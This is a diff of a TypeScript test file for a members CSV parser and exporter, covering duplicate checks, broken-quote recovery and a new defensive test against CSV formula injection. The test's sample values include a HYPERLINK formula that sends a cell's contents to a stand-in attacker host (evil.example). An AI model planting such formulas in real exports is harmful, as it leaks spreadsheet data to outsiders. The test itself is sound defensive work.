@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import { parseCsv } from "./csv.js";
 import { memberCsvLine, membersCsvHeader, parseMembersCsv, MEMBER_CSV_COLUMNS } from "./members-csv.js";
 import type { StoredMember } from "./member-store.js";
 
@@ -47,7 +48,6 @@ describe("parseMembersCsv", () => {
         "4.79123E+09,,,,[1],",
         ",,,,,",
         `4791234568,,${"x".repeat(33)},,"{""name"":""Kari""}",has space`,
-        "4791234567,,,,,",
         "4791234569,ok-1,,,",
       ].join("\n"),
     );
@@ -67,13 +67,12 @@ describe("parseMembersCsv", () => {
       { line: 5, problem: "msisdn: required" },
       { line: 6, problem: "tier: at most 32 characters" },
       { line: 6, problem: expect.stringMatching(/^sub: expected up to 200 visible ASCII/) as unknown },
-      { line: 7, problem: "msisdn: the same value is on line 2" },
-      { line: 8, problem: "expected 6 fields, found 5" },
+      { line: 7, problem: "expected 6 fields, found 5" },
     ]);
   });
 
   it("never repeats a phone number in a problem", () => {
-    const parsed = parseMembersCsv("msisdn\n12345\n4791234567\n4791234567\n");
+    const parsed = parseMembersCsv("msisdn\n12345\n4791234567\n47912345678901234\n");
     expect(parsed.problems).toHaveLength(2);
     expect(JSON.stringify(parsed.problems)).not.toMatch(/12345|4791234567/);
   });
@@ -96,14 +95,51 @@ describe("parseMembersCsv", () => {
     ]);
   });
 
-  it("reports a broken quote as the file's problem", () => {
-    expect(parseMembersCsv('msisdn,display_name\n4791234567,"Kari\n').problems).toEqual([
-      { line: 2, problem: "a quoted field is never closed" },
-    ]);
+  it("reports a broken quote as its row's problem and reads the rows after it", () => {
+    const parsed = parseMembersCsv('msisdn,display_name\n4791234567,"Kari\n4791234568,Åse\n');
+    expect(parsed.problems).toEqual([{ line: 2, problem: "a quoted field is never closed" }]);
+    expect(parsed.records).toEqual([{ line: 3, msisdn: "4791234568", displayName: "Åse" }]);
+  });
+
+  it("a header that cannot be read is the file's problem: no row is read", () => {
+    expect(parseMembersCsv('msisdn,"display_name\n4791234567,Kari\n')).toEqual({
+      columns: new Set(),
+      records: [],
+      problems: [{ line: 1, problem: "a quoted field is never closed" }],
+    });
   });
 });
 
 describe("export lines", () => {
+  it("neutralise spreadsheet formulas (OWASP CSV injection), and read back to the same values", () => {
+    const formulas = [
+      '=HYPERLINK("https://evil.example/?"&B2,"Klikk")',
+      "+47 ring",
+      "-1",
+      "@SUM(A1)",
+      "'quoted",
+      "＝1+1",
+    ];
+    for (const value of formulas) {
+      const member: StoredMember = {
+        memberId: "K-1",
+        msisdn: "4791234567",
+        tier: value.slice(0, 32),
+        displayName: value.slice(0, 32),
+        ...(/^[\x21-\x7e]+$/.test(value.replace(/ /g, "")) ? { sub: value.replace(/ /g, "") } : {}),
+        enrolledAt: 0,
+        lastSeenAt: 0,
+      };
+      const line = memberCsvLine(member);
+      const cells = parseCsv(line).records[0]?.fields ?? [];
+      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+      const parsed = parseMembersCsv(membersCsvHeader() + line);
+      expect(parsed.problems).toEqual([]);
+      const { line: _line, ...record } = parsed.records[0] ?? { line: 0 };
+      expect(record).toEqual(member);
+    }
+  });
+
   it("write every column and read back to the same member", () => {
     const member: StoredMember = {
       memberId: "M0ABCDEFGH1",
